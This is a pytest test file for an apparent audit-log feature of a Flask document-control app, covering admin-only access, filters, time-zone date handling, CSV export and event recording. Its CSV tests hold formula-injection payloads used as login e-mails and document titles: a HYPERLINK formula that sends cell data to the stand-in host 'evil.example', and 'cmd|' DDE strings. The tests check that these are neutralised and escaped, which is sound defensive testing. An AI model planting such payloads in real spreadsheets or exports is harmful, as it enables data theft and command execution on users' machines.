"""The audit-log page: admins only, filters, CSV export with formula neutralisation, chain head, every event type."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from sqlalchemy import select
from support import CSRFClient, new_document, pdf, twin_app, upload_version

from auditdocs.extensions import db
from auditdocs.models import AuditEvent
from auditdocs.services import audit

ROW = re.compile(r'<tr data-testid="event" data-seq="(\d+)" data-action="([^"]*)">')
CSV_HEADER = ["seq", "occurred_at_utc", "actor", "action", "object_type", "object_id", "old_values", "new_values",
              "ip", "prev_hash", "hash"]


def login(client: Any, user: Any) -> Any:
    resp = client.post_form("/login", {"email": user.email, "password": user.password})
    assert resp.status_code == 302
    return client


def all_events(app: Flask) -> list[dict[str, Any]]:
    with app.app_context():
        out = [{"seq": e.seq, "actor": e.actor_label, "actor_id": e.actor_id, "action": e.action,
                "object_type": e.object_type, "object_id": e.object_id or "",
                "old": json.loads(e.old_values) if e.old_values else None,
                "new": json.loads(e.new_values) if e.new_values else None, "hash": e.hash}
               for e in db.session.scalars(select(AuditEvent).order_by(AuditEvent.seq))]
        db.session.remove()
    return out


def shown(client: Any, **filters: str) -> list[tuple[int, str]]:
    """(seq, action) of each row on the audit-log page, newest first."""
    resp = client.get("/audit/?" + urlencode(filters))
    assert resp.status_code == 200
    return [(int(seq), action) for seq, action in ROW.findall(resp.get_data(as_text=True))]


@pytest.fixture
def admin_client(app: Flask, make_user: Any) -> CSRFClient:
    return login(app.test_client(), make_user("admin", name="Admin"))


# -- access ---------------------------------------------------------------------------------------------------


def test_an_admin_sees_the_log_newest_first_with_the_chain_head(app, client, login_as, make_user):
    admin = login_as("admin")
    rows = shown(client)
    events = all_events(app)
    assert [r[0] for r in rows] == [e["seq"] for e in reversed(events)]
    assert rows[0][1] == "auth.login" and events[-1]["actor"] == admin.email

    page = client.get("/audit/").get_data(as_text=True)
    with app.app_context():
        seq, digest = audit.head()
        db.session.remove()
    assert re.search(r'data-testid="chain-head">([0-9a-f]{64})<', page).group(1) == digest
    assert f"Chain head: event {seq}, hash" in html.unescape(page)
    assert digest == events[-1]["hash"]
    # Viewing the log is not an event.
    assert all_events(app) == events


@pytest.mark.parametrize("role", ["quality_officer", "compliance_officer", "auditor"])
def test_non_admins_get_403(app, client, login_as, role):
    login_as(role)
    before = all_events(app)
    for url in ("/audit/", "/audit/export.csv", "/audit/?user=x"):
        resp = client.get(url)
        assert resp.status_code == 403, url
        assert "Your role does not allow this action. Nothing was changed." in html.unescape(
            resp.get_data(as_text=True))
        assert "chain-head" not in resp.get_data(as_text=True)
    assert 'href="/audit/"' not in client.get("/").get_data(as_text=True)  # not offered in the menu either
    # The three refusals are one event (per account and 15-minute window), not three; nothing else is written.
    added = all_events(app)[len(before):]
    assert [e["action"] for e in added] == ["access.forbidden"]


def test_anonymous_visitors_are_sent_to_the_login(client):
    for url in ("/audit/", "/audit/export.csv"):
        resp = client.get(url)
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]


# -- filters ---------------------------------------------------------------------------------------------------


def test_filters_by_user_object_and_action(app, admin_client, make_user):
    rosa = make_user("quality_officer", email="rosa@example.org")
    luis = make_user("compliance_officer", email="luis@example.org")
    rosa_client = login(app.test_client(), rosa)
    luis_client = login(app.test_client(), luis)
    new_document(rosa_client, rosa.id, code="PR-A")
    new_document(luis_client, luis.id, code="PR-B")
    new_document(rosa_client, rosa.id, code="PR-AB")
    events = all_events(app)

    def expected(pred: Any) -> list[tuple[int, str]]:
        return [(e["seq"], e["action"]) for e in reversed(events) if pred(e)]

    def objects(rows: list[tuple[int, str]]) -> list[str]:
        by_seq = {e["seq"]: f"{e['object_type']} {e['object_id']}".strip() for e in events}
        return [by_seq[seq] for seq, _action in rows]

    by_rosa = shown(admin_client, user="rosa@")
    assert by_rosa == expected(lambda e: "rosa@" in e["actor"])
    assert {r[1] for r in by_rosa} == {"auth.login", "document.create", "version.upload"}
    assert shown(admin_client, user="LUIS") == expected(lambda e: "luis" in e["actor"])

    assert shown(admin_client, object="PR-A") == expected(lambda e: "PR-A" in e["object_id"])
    assert set(objects(shown(admin_client, object="PR-A"))) == {"document PR-A", "document_version PR-A#1",
                                                                    "document PR-AB", "document_version PR-AB#1"}
    assert shown(admin_client, object="PR-B#1") == expected(lambda e: e["object_id"] == "PR-B#1")

    assert shown(admin_client, action="version.") == expected(lambda e: e["action"].startswith("version."))
    assert objects(shown(admin_client, action="version.upload")) == [
        "document_version PR-AB#1", "document_version PR-B#1", "document_version PR-A#1"]
    assert shown(admin_client, action="document.create", user="luis") == expected(
        lambda e: e["action"] == "document.create" and "luis" in e["actor"])
    assert shown(admin_client, user="nobody-at-all") == []
    page = admin_client.get("/audit/?user=nobody-at-all").get_data(as_text=True)
    assert "No events match." in page
    # The export link carries the filters.
    assert 'href="/audit/export.csv?user=nobody-at-all"' in page


@pytest.fixture
def apps_in_zones(app: Flask) -> Iterator[dict[str, Flask]]:
    """The same data seen from the far west and the far east of the date line, and from Lima.

    A date filter compared in the wrong zone drops today's events for part of every day in one of them."""
    zones = {"America/Lima": app}
    for zone in ("Etc/GMT+12", "Pacific/Kiritimati"):
        zones[zone] = twin_app(app, TIMEZONE=zone)
    yield zones
    for other in zones.values():
        if other is not app:
            with other.app_context():
                db.session.remove()
                db.engine.dispose()


@pytest.mark.parametrize("zone", ["America/Lima", "Etc/GMT+12", "Pacific/Kiritimati"])
def test_the_date_filter_uses_calendar_days_of_the_organisation(app, apps_in_zones, make_user, zone):
    web = apps_in_zones[zone]
    admin = make_user("admin")
    client = login(web.test_client(), admin)
    events = all_events(app)
    everything = [e["seq"] for e in reversed(events)]
    today = datetime.now(ZoneInfo(zone)).date()
    day = date.isoformat

    assert [r[0] for r in shown(client, start=day(today), end=day(today))] == everything
    assert [r[0] for r in shown(client, start=day(today))] == everything
    assert [r[0] for r in shown(client, end=day(today))] == everything
    assert [r[0] for r in shown(client, start=day(today - timedelta(days=1)), end=day(today + timedelta(days=1)))] \
        == everything
    assert shown(client, start=day(today + timedelta(days=1))) == []
    assert shown(client, end=day(today - timedelta(days=1))) == []
    assert [r[0] for r in shown(client, start="not-a-date")] == everything  # ignored, not a crash


# -- CSV export ------------------------------------------------------------------------------------------------


def read_csv(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    text = resp.get_data(as_text=True)
    resp.close()
    assert text.startswith("\ufeff")  # Excel opens the accents correctly
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_has_a_header_and_every_event(app, admin_client, make_user):
    rosa = make_user("quality_officer")
    new_document(login(app.test_client(), rosa), rosa.id, code="PR-CSV-1", title="Señalización y métodos")
    rows = read_csv(admin_client.get("/audit/export.csv"))
    events = all_events(app)
    assert rows[0] == CSV_HEADER
    body = rows[1:]
    assert [int(r[0]) for r in body] == [e["seq"] for e in reversed(events)]
    for row, ev in zip(body, reversed(events), strict=True):
        assert row[2] == ev["actor"] and row[3] == ev["action"] and row[5] == ev["object_id"]
        assert row[10] == ev["hash"]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", row[1])
    create = next(r for r in body if r[3] == "document.create")
    assert json.loads(create[7])["title"] == "Señalización y métodos"

    filtered = read_csv(admin_client.get("/audit/export.csv?action=version.upload"))
    assert filtered[0] == CSV_HEADER
    assert [(r[3], r[5]) for r in filtered[1:]] == [("version.upload", "PR-CSV-1#1")]


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_csv_cells_that_could_run_as_formulas_are_neutralised(app, client, admin_client, payload):
    # A failed login records the typed e-mail as the actor and the object: text the attacker chooses.
    resp = client.post_form("/login", {"email": payload, "password": "wrong password"})
    assert resp.status_code == 401
    typed = payload.strip().lower()
    [failed] = [e for e in all_events(app) if e["action"] == "auth.login_failed"]
    assert failed["actor"] == typed and failed["object_id"] == typed  # stored as typed: evidence is not altered

    rows = read_csv(admin_client.get("/audit/export.csv?action=auth.login_failed"))
    [row] = rows[1:]
    assert row[2] == "'" + typed  # actor
    assert row[5] == "'" + typed  # object id
    assert row[3] == "auth.login_failed"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@")), row


def test_a_document_title_that_looks_like_a_formula_cannot_start_a_cell(app, admin_client, make_user):
    rosa = make_user("quality_officer")
    title = '=HYPERLINK("http://evil.example","Procedimiento")'
    new_document(login(app.test_client(), rosa), rosa.id, code="PR-EVIL-1", title=title)
    rows = read_csv(admin_client.get("/audit/export.csv?object=PR-EVIL-1"))
    [create] = [r for r in rows[1:] if r[3] == "document.create"]
    assert json.loads(create[7])["title"] == title  # the title travels inside the JSON cell, intact
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), row
    # And the page shows it as text, escaped.
    page = admin_client.get("/audit/?object=PR-EVIL-1").get_data(as_text=True)
    assert "=HYPERLINK(" in page and 'HYPERLINK("http' not in page


# -- every state change leaves its event -------------------------------------------------------------------------


def test_each_state_change_produces_its_event(app, client, make_user, admin_client):
    rosa = make_user("quality_officer", email="rosa@example.org")
    jefa = make_user("quality_officer", email="jefa@example.org")
    start = len(all_events(app))

    # failed login, login
    assert client.post_form("/login", {"email": rosa.email, "password": "not her password"}).status_code == 401
    login(client, rosa)
    # upload (new document + a new version), approve, reject, mapping change, withdraw
    doc_id = new_document(client, rosa.id, code="PR-EV-1")
    assert upload_version(client, doc_id, pdf("ev v2"), "v2.pdf").status_code == 302
    jefa_client = login(app.test_client(), jefa)
    assert jefa_client.post_form(f"/documents/{doc_id}/versions/1/approve", {}, page="/").status_code == 302
    assert jefa_client.post_form(f"/documents/{doc_id}/versions/2/reject", {"reason": "Falta la firma"},
                                 page="/").status_code == 302
    with app.app_context():
        from auditdocs.models import Clause, Standard

        clause = db.session.scalar(select(Clause.id).join(Standard).where(Standard.slug == "iso9001_2015",
                                                                          Clause.number == "7.5.1"))
        db.session.remove()
    assert client.post_form(f"/documents/{doc_id}/clauses", {"clauses": [str(clause)]}, page="/").status_code == 302
    assert client.post_form(f"/documents/{doc_id}/withdraw", {"reason": "Proceso suprimido"},
                            page="/").status_code == 302
    # role change by the admin
    assert admin_client.post_form(f"/admin/users/{jefa.id}", {"role": "compliance_officer", "active": "y"},
                                  page=f"/admin/users/{jefa.id}").status_code == 302
    # logout
    assert client.post_form("/logout", {}, page="/").status_code == 302

    new = all_events(app)[start:]
    expected = [
        ("auth.login_failed", "rosa@example.org", "rosa@example.org"),
        ("auth.login", rosa.email, str(rosa.id)),
        ("document.create", rosa.email, "PR-EV-1"),
        ("version.upload", rosa.email, "PR-EV-1#1"),
        ("version.upload", rosa.email, "PR-EV-1#2"),
        ("auth.login", jefa.email, str(jefa.id)),
        ("version.approve", jefa.email, "PR-EV-1#1"),
        ("version.reject", jefa.email, "PR-EV-1#2"),
        ("document.clauses", rosa.email, "PR-EV-1"),
        ("document.withdraw", rosa.email, "PR-EV-1"),
        ("user.role", None, str(jefa.id)),
        ("auth.logout", rosa.email, str(rosa.id)),
    ]
    assert [(e["action"], e["object_id"]) for e in new] == [(a, o) for a, _who, o in expected]
    for ev, (_a, who, _o) in zip(new, expected, strict=True):
        if who is not None:
            assert ev["actor"] == who, ev
    role = next(e for e in new if e["action"] == "user.role")
    assert role["old"] == {"role": "quality_officer"} and role["new"] == {"role": "compliance_officer"}
    assert role["actor"].startswith("admin")
    clauses = next(e for e in new if e["action"] == "document.clauses")
    assert clauses["old"] == {"clauses": []} and clauses["new"] == {"clauses": ["ISO 9001:2015 7.5.1"]}
    assert next(e for e in new if e["action"] == "version.reject")["new"]["reason"] == "Falta la firma"
    assert next(e for e in new if e["action"] == "document.withdraw")["new"]["reason"] == "Proceso suprimido"

    # The admin finds each of them on the page by its action, and the chain is intact.
    for action in {a for a, _w, _o in expected}:
        rows = shown(admin_client, action=action)  # the action filter matches a prefix ("version." for all)
        assert any(r[1] == action for r in rows) and all(r[1].startswith(action) for r in rows), action
    with app.app_context():
        assert audit.verify_chain().errors == []
        db.session.remove()
